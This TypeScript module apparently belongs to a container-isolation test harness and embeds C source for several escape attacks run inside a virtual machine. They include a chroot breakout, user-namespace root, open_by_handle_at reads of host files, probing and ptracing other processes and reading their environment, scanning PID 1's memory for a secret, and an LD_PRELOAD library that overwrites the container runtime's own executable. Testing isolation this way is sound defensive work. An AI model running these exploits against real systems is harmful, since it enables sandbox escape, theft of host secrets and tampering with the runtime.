// Owns the larger C programs of the attacks. The virtual machine has no compiler: those that are tried in there are
// compiled before it starts.

import { compile } from "./attack.ts";

/** Changes the root to a directory below, walks up from where it still stands, and reads a file of the host's. */
export const ESCAPE = `#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int n, char **v) {
  mkdir("/tmp/below", 0755);
  int top = open("/", O_RDONLY);
  if (chroot("/tmp/below")) return printf("chroot: %s\\n", strerror(errno)), 0;
  fchdir(top);
  for (int i = 0; i < 64; i++) chdir("..");
  chroot(".");
  printf("%s\\n", access(v[1], F_OK) ? "inside" : "outside");
  return 0;
}`;

/** Makes user, mount and cgroup namespaces, becomes root in them, and executes its words. */
export const NEST = `#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static void put(const char *path, const char *text) { int fd = open(path, O_WRONLY); write(fd, text, strlen(text)); close(fd); }
int main(int n, char **v) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) return printf("%s\\n", strerror(errno)), 0;
  put("/proc/self/setgroups", "deny");
  put("/proc/self/uid_map", "0 0 1");
  return execv(v[1], v + 1);
}`;

/** With a path: prints its handle. With a handle: opens it on the file system of the root, and prints what is in it. */
export const HANDLE = `#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int n, char **v) {
  char space[sizeof(struct file_handle) + 128] = {0};
  struct file_handle *h = (void *)space;
  int mount, type, used;
  h->handle_bytes = 128;
  if (n == 2) {
    if (name_to_handle_at(AT_FDCWD, v[1], h, &mount, 0)) return printf("name: %s\\n", strerror(errno)), 0;
    printf("%d", h->handle_type);
    for (unsigned i = 0; i < h->handle_bytes; i++) printf(" %d", h->f_handle[i]);
    return 0;
  }
  h->handle_type = atoi(v[1]);
  h->handle_bytes = n - 2;
  for (int i = 2; i < n; i++) h->f_handle[i - 2] = atoi(v[i]);
  int fd = open_by_handle_at(open("/", O_RDONLY), h, O_RDONLY);
  if (fd < 0) return printf("%s\\n", strerror(errno)), 0;
  char text[64] = {0};
  read(fd, text, 63);
  printf("%s\\n", text);
  return 0;
}`;

/** Looks for the processes that it can name, and tries to signal, to trace and to read each that is not itself. */
export const LOOK = `#define _GNU_SOURCE
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
  int seen = 0, signalled = 0, traced = 0, read = 0;
  DIR *proc = opendir("/proc");
  struct dirent *entry;
  while ((entry = readdir(proc))) {
    int pid = atoi(entry->d_name);
    if (pid <= 0 || pid == getpid()) continue;
    seen++;
    if (kill(pid, 0) == 0) signalled++;
    char byte, path[64];
    sprintf(path, "/proc/%d/environ", pid);
    FILE *file = fopen(path, "r");
    if (file && fgetc(file) != EOF) read++;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) { traced++; ptrace(PTRACE_DETACH, pid, 0, 0); }
  }
  printf("pid %d ppid %d seen %d signalled %d traced %d read %d\\n", getpid() == 1, getppid(), seen, signalled, traced, read);
  return 0;
}`;

/** How often the memory of PID 1 holds a text, given in two parts. */
export const SCAN = `#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int n, char **v) {
  char text[100], line[512], way;
  unsigned long from, to, found = 0;
  int memory = open("/proc/1/mem", O_RDONLY);
  FILE *maps = fopen("/proc/1/maps", "r");
  if (memory < 0 || !maps) return 1;
  snprintf(text, sizeof text, "%s%s", v[1], v[2]);
  static char part[1 << 20];
  while (fgets(line, sizeof line, maps)) {
    if (sscanf(line, "%lx-%lx %c", &from, &to, &way) != 3 || way != 'r') continue;
    for (; from < to; from += sizeof part - 128) {
      ssize_t got = pread(memory, part, to - from < sizeof part ? to - from : sizeof part, from);
      if (got <= 0) continue;
      for (char *at = part; (at = memmem(at, part + got - at, text, strlen(text))); at++) found++;
    }
  }
  printf("%lu\\n", found);
  return 0;
}`;

/** Opens a path for writing, with O_TRUNC and without, and writes. */
export const OVERWRITE = `#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(int n, char **v) {
  for (int i = 0; i < 2; i++) {
    int w = open(v[1], i ? O_WRONLY : O_WRONLY | O_TRUNC);
    printf("%s\\n", w < 0 || write(w, "hacked", 6) < 0 ? strerror(errno) : "written");
  }
  return 0;
}`;

/** Loaded into whatever the image starts: keeps a descriptor of that program's file, and leaves the program. */
export const EVIL = `#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void evil(void) {
  unsetenv("LD_PRELOAD");
  dup2(open("/proc/self/exe", O_PATH), 99);
  execl("/overwrite", "overwrite", "/proc/self/fd/99", (char *)0);
}`;

/** The last step of a container runtime that does not protect its own executable: chroot and execv. */
export const RUNTIME = `#include <unistd.h>
int main(int n, char **v) { return chroot(v[1]) || chdir("/") || execv(v[2], v + 2); }`;

/** The compiler flags of the two that are not static programs. */
export const EVIL_FLAGS = ["-shared", "-fPIC"];
export const RUNTIME_FLAGS: string[] = [];

/** Leaves those that the virtual machine needs in .cache/programs. */
export function compileAll(): void {
  for (const source of [NEST, OVERWRITE]) compile(source);
  compile(EVIL, EVIL_FLAGS);
  compile(RUNTIME, RUNTIME_FLAGS);
}
